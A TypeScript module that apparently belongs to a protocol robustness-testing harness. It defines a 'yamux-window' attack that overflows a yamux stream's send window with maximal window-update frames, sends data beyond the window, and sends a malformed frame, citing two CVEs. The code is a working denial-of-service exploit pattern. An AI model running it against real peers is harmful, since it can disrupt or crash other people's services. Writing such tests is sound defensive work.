import { sleep } from "../../../../base/clock.ts";
import type { Attack } from "../../attack.ts";
import { FIRST_STREAM_ID, YAMUX_FLAG, YAMUX_TYPE, yamuxFrame } from "../../yamux_frames.ts";

const UINT32_MAX = 2 ** 32 - 1;
/** Twice the window that a stream begins with. */
const EXCESS_BYTES = 512 * 1024;
const INTERVAL_MS = 30;

export const yamuxWindow: Attack = {
  name: "yamux-window",
  group: "below",
  what: "Overflows a stream's send window by window updates, and sends more than its own window allows.",
  source: "CVE-2026-31814, CVE-2026-32314",
  sound: "Resets the stream or the connection, and survives.",
  hangsUp: false,
  async run({ clock, signal, join, send, count, note }) {
    let id = FIRST_STREAM_ID;
    let rounds = 0;
    while (!signal.aborted) {
      const peer = await join();
      if (peer === null) break;
      const write = (bytes: Uint8Array) => {
        peer.sendBytes(bytes, peer.transport);
        count({ rpcs: 1, bytes: bytes.length });
      };
      send(peer, { bytes: new Uint8Array(), messages: 0 });
      write(yamuxFrame(YAMUX_TYPE.windowUpdate, YAMUX_FLAG.syn, id, UINT32_MAX));
      for (let i = 0; i < 8; i++) write(yamuxFrame(YAMUX_TYPE.windowUpdate, 0, id, UINT32_MAX));
      await sleep(clock, INTERVAL_MS, signal);
      write(yamuxFrame(YAMUX_TYPE.data, 0, id, EXCESS_BYTES, new Uint8Array(EXCESS_BYTES)));
      // A frame on the session's own stream, of a type and with flags that do not exist.
      write(yamuxFrame(7, 0xffff, 0, UINT32_MAX));
      await sleep(clock, INTERVAL_MS, signal);
      await peer.stop();
      id += 2;
      rounds++;
    }
    note("rounds", rounds);
  },
};
